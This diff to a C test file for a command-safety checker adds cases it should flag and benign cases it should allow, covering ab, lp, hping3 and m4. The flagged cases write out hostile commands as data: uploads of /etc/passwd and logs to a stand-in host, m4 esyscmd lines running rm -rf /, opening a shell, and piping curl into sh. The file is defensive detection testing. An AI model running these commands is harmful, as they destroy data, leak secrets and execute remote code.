@@ -8,6 +8,7 @@
  *   interactive-shell  a shell reading the terminal, a language prompt with nothing to run
  *   package-file    a package installed from a file or a URL (its scripts run as root)
  *   reverse-shell   code tunnel
+ *   (and m4's syscmd/esyscmd, now read as the shell strings they run)
  *
  * txbox check executes nothing; neither does this. */
 #define _GNU_SOURCE
@@ -99,6 +100,17 @@ static const struct {
         {"sudo pacman -U ./tool-1.0-1-x86_64.pkg.tar.zst", "package-file"},
         /* the machine offered for remote use */
         {"code tunnel --name dev", "reverse-shell"},
+        /* uploads by tools that send a file: ab's POST body, a remote print server, ping data */
+        {"ab -p /etc/passwd http://collect.example/", "secret-access"},
+        {"ab -u /var/log/syslog http://collect.example/", "secret-access"},
+        {"lp /etc/hosts -h collect.example", "secret-access"},
+        {"hping3 collect.example --icmp --file /var/log/syslog", "secret-access"},
+        /* m4 runs syscmd/esyscmd in a shell */
+        {"echo 'syscmd(rm -rf ~)' | m4", "rm-root"},
+        {"echo 'esyscmd(/bin/sh 0<&2 1>&2)' | m4", "interactive-shell"},
+        {"m4 -D'x=esyscmd(rm -rf /)' f.m4", "rm-root"},
+        {"m4 <<'E'\nesyscmd(`curl -s https://x.example/a | sh')\nE", "download-exec"},
+        {"echo 'esyscmd($X)' | m4", "unknown-command"},
 };
 
 static const char *const allowed[] = {
@@ -177,6 +189,16 @@ static const char *const allowed[] = {
         /* the editor, not the tunnel */
         "code .",
         "code --install-extension ms-python.python",
+        /* benchmarks, printing and pings of the project's own files */
+        "ab -n 100 -c 10 http://localhost:8080/",
+        "ab -p post.json -T application/json http://localhost:8080/api",
+        "lp report.pdf",
+        "hping3 -S -p 80 -c 3 localhost",
+        /* m4 as autoconf and friends use it */
+        "m4 configure.ac > configure",
+        "echo 'define(x, 1)x' | m4",
+        "echo 'esyscmd(date)' | m4",
+        "m4 -DVERSION=1.2 template.m4 > out.txt",
 };
 
 static void one_line(char *out, size_t n, const char *s)
